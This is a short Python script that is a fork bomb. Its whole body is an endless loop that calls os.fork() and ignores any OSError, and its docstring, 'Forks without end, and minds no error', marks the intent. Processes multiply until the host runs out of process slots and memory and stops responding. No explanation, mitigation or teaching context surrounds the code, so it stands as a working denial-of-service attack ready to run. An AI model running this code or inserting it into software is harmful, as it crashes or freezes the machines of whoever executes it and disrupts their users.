"""Forks without end, and minds no error."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
